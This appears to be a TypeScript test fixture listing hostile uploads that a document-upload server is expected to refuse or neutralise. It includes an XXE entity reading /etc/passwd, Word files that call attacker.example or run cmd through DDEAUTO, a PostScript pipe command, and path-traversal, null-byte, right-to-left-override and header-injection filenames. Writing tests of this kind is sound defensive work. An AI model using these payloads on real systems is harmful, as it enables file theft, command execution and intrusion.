import { gzipSync } from 'node:zlib'
import { zipFile } from '../../src/server/testing/documents/zip.ts'
import sharp from 'sharp'
import { onePage, pdfStream } from '../../src/server/testing/documents/pdf.ts'
import { png } from '../../src/server/testing/documents/png.ts'
import { either, neutralised, payload, refused, script, text, zip, type HostileFile } from './hostile-file.ts'

const picture = sharp({ create: { width: 210, height: 297, channels: 3, background: '#fff' } })
const image = png(210, 297)
const as = (file: HostileFile, name: string, type: string): HostileFile => ({ ...file, name, type })
const tenMiB = 10 * 1024 * 1024

/** A readable PDF of exactly so many bytes. */
function padded(size: number): Buffer {
  const file = (fill: number) => onePage({ more: [pdfStream('x'.repeat(fill))] })
  return file(size + size - file(size).length)
}

const formats: HostileFile[] = await Promise.all(
  (['gif', 'webp', 'tiff', 'avif'] as const).map(async (format) => {
    const content = await picture.clone().toFormat(format).toBuffer()
    return refused(`a ${format} image`, () => content)
  }),
)

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (type: string) =>
  `<Relationship Id="rId1" Type="${office}/${type}" Target="https://attacker.example/a" TargetMode="External"/>`

const word = (part: string, relationships: string, body = '') =>
  zipFile({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document>${body}</w:document>`,
    [`word/_rels/${part}.xml.rels`]: `<Relationships>${relationships}</Relationships>`,
  })

const others: HostileFile[] = [
  refused('an empty file', () => Buffer.alloc(0)),
  refused('one byte', () => text('%')),
  refused('a text', () => text('Sehr geehrte Damen und Herren')),
  refused('HTML', () => text(`<!doctype html>${script}`)),
  refused('SVG with a script', () => text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)),
  refused('XML that reads a file', () => text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
  refused('a bitmap', () => Buffer.concat([text('BM'), Buffer.alloc(200)])),
  refused('an icon', () => Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)])),
  refused('a photo of a telephone (HEIC)', () => text(`\0\0\0\x18ftypheic\0\0\0\0mif1heic${payload}`)),
  refused('a film', () => text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom')),
  refused('a program for Windows', () => Buffer.concat([text('MZ\x90\0\x03\0\0\0'), Buffer.alloc(500)])),
  refused('a program for Linux', () => Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])),
  refused('an archive', () => zip()),
  refused('a document of a word processor', () => zip('[Content_Types].xml', '<Types/>')),
  refused('a Word file whose template is elsewhere', () => word('settings', related('attachedTemplate'))),
  refused('a Word file with a picture from elsewhere', () => word('document', related('image'))),
  refused('a Word file that runs a program by a field', () =>
    word('document', '', '<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>'),
  ),
  refused('a compressed page', () => gzipSync(image)),
  refused('PostScript', () => text('%!PS-Adobe-3.0\n(%pipe%id) (r) file')),
  refused('Photoshop', () => text('8BPS\0\x01\0\0\0\0\0\0\0\x03')),
  refused('a megabyte of nothing', () => Buffer.alloc(1_000_000)),
  refused('PNG with its line ends converted', () => text(image.toString('latin1').replace('\r\n', '\n'))),
  as(
    refused('a text that is called PDF', () => text('PDF')),
    'a.pdf',
    'application/pdf',
  ),
  as(
    refused('a program that is called PNG', () => text('MZ\x90')),
    'a.png',
    'image/png',
  ),
  as(
    neutralised('a PNG that is called PDF', () => image),
    'a.pdf',
    'application/pdf',
  ),
  as(
    neutralised('a PDF that is called PNG', () => onePage()),
    'a.png',
    'image/png',
  ),
  as(
    neutralised('a PNG that is called a web page', () => image),
    'a.html',
    'text/html',
  ),
  as(
    neutralised('a PNG called like a file of the system', () => image),
    '../../../../etc/passwd',
    'image/png',
  ),
  as(
    neutralised('a PNG with two names', () => image),
    'a.png%00.exe',
    'image/png',
  ),
  as(
    neutralised('a PNG with a name of a thousand letters', () => image),
    `${'n'.repeat(1000)}.png`,
    'image/png',
  ),
  as(
    neutralised('a PNG whose name runs backwards', () => image),
    'a\u202egnp.exe',
    'image/png',
  ),
  as(
    either('a PNG whose name ends the line', () => image),
    'a.png\r\nX-Evil: 1',
    'image/png',
  ),
  as(
    either('a PNG that is called a text', () => image),
    'a.txt',
    'text/plain; charset=utf-16',
  ),
  neutralised('exactly 10 MiB', () => padded(tenMiB)),
  refused('10 MiB and a byte', () => padded(tenMiB + 1)),
  refused('15 MiB of a picture', () => Buffer.concat([image, Buffer.alloc(15 * 1024 * 1024)])),
]

export const hostileOthers = [...formats, ...others]
